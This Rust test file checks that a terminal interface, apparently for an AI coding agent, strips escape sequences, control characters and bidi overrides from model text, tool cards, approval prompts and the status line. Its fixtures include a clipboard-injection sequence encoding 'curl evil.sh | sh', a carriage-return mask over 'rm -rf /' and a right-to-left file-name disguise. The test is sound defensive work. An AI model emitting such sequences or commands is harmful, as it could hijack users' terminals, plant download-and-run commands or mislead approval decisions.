//! Hostile strings in model text, file names, command lines and output:
//! none of what a terminal would act on reaches a cell.

use airlock_tui::view::approval::{ApprovalAction, ApprovalPanel, ApprovalRequest, SessionGrant};
use airlock_tui::view::card::{CardOptions, CommandExit, ToolCall, ToolCard, ToolOutcome};
use airlock_tui::view::markdown::{MarkdownStream, markdown};
use airlock_tui::view::notice::{NoticeLevel, notice, user_message};
use airlock_tui::view::status::{AuditState, ModelPlace, PermissionMode, StatusLine};
use ratatui::text::Line;

use super::support::{assert_no_unsafe_cells, buffer_of_lines, draw};

const ATTACKS: [&str; 8] = [
    "copy \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 done",
    "clear \x1b[2J\x1b[H screen",
    "8-bit \u{9b}2J csi and \u{9d}0;title\u{9c}",
    "bidi safe\u{202E}txt.exe \u{2066}x\u{2069}",
    "nul \0 and bell \x07 and del \x7f",
    "carriage rm -rf /\rls",
    "title \x1b]0;pwned\x1b\\ and dcs \x1bP+q\x1b\\",
    "tab\tand\u{200F}mark\u{2028}sep",
];

fn check(lines: &[Line<'_>], what: &str) {
    for width in [20u16, 80] {
        assert_no_unsafe_cells(&buffer_of_lines(lines, width), what);
    }
    for line in lines {
        for span in &line.spans {
            assert!(
                !span.content.chars().any(|c| (c.is_control()) || ('\u{202A}'..='\u{202E}').contains(&c)),
                "{what}: span {:?}",
                span.content
            );
        }
    }
}

#[test]
fn in_model_text() {
    for attack in ATTACKS {
        for text in [
            attack.to_string(),
            format!("# {attack}\n\n- *{attack}*\n\n> {attack}\n\n`{attack}`"),
            format!("```rust\n{attack}\n```"),
            format!("[{attack}]({attack})"),
            format!("| a | b |\n|---|---|\n| {attack} | x |"),
        ] {
            check(&markdown(&text, 80), attack);
            check(&user_message(&text, 80), attack);
            check(&notice(NoticeLevel::Error, &text, 80), attack);
        }
        // Split in every place while streaming.
        for cut in (0..attack.len()).filter(|&c| attack.is_char_boundary(c)) {
            let mut s = MarkdownStream::new();
            s.push(&attack[..cut]);
            check(&s.lines(80), attack);
            s.push(&attack[cut..]);
            check(&s.lines(80), attack);
            check(&s.finish(80), attack);
        }
    }
}

#[test]
fn in_file_names_commands_and_output() {
    for attack in ATTACKS {
        let cards = [
            ToolCard { call: ToolCall::Read { path: attack.into() }, outcome: ToolOutcome::Done { count: Some(1) } },
            ToolCard {
                call: ToolCall::Search { pattern: attack.into(), path: Some(attack.into()) },
                outcome: ToolOutcome::Failed { error: attack.into() },
            },
            ToolCard {
                call: ToolCall::Edit {
                    path: attack.into(),
                    before: Some(attack.into()),
                    after: format!("{attack}\n!"),
                },
                outcome: ToolOutcome::Done { count: None },
            },
            ToolCard {
                call: ToolCall::Command { command: attack.into() },
                outcome: ToolOutcome::Command { exit: CommandExit::Code(1), output: format!("{attack}\n").repeat(9) },
            },
            ToolCard {
                call: ToolCall::Command { command: attack.into() },
                outcome: ToolOutcome::Denied { by: attack.into(), note: Some(attack.into()) },
            },
            ToolCard {
                call: ToolCall::Other { name: attack.into(), arguments: attack.into() },
                outcome: ToolOutcome::Running,
            },
        ];
        for card in &cards {
            for expanded in [false, true] {
                check(&card.lines(80, &CardOptions { expanded, ..CardOptions::default() }), attack);
            }
        }
    }
}

#[test]
fn in_the_approval_panel_and_status_line() {
    for attack in ATTACKS {
        let requests = [
            ApprovalAction::Command {
                command: attack.into(),
                argv: vec![vec![attack.into()]],
                cwd: Some(attack.into()),
            },
            ApprovalAction::Edit { path: attack.into(), before: None, after: attack.into() },
            ApprovalAction::Tool { name: attack.into(), arguments: attack.into() },
        ];
        for action in requests {
            let request = ApprovalRequest {
                action,
                reason: attack.into(),
                session: Some(SessionGrant::ExactCommand(attack.into())),
                project: Some(attack.into()),
            };
            let panel = ApprovalPanel { note: Some(attack.into()), ..ApprovalPanel::new(request) };
            assert_no_unsafe_cells(draw(&panel, 60, panel.height(60)).buffer(), attack);
            let shown = panel.shown_text(60);
            assert!(!shown.chars().any(|c| c.is_control() && c != '\n'), "{attack}: {shown:?}");
        }
        let status = StatusLine {
            model: attack.into(),
            place: ModelPlace::SelfHosted { host: attack.into() },
            mode: PermissionMode::Ask,
            tokens_used: 1,
            context_used: 1,
            context_window: None,
            session_id: attack.into(),
            audit: AuditState::NotVerifying,
            hint: attack.into(),
        };
        assert_no_unsafe_cells(draw(&status, 200, 1).buffer(), attack);
    }
}
